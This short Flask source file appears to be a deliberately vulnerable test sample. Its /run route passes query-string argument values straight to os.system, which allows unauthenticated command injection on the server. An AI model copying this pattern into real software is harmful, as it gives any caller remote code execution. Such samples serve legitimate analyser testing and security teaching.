import os

from flask import Flask, request

app = Flask(__name__)


@app.route("/run")
def run():
    last = "true"
    for name in request.args:
        os.system(last)
        last = request.args[name]
    return "done"
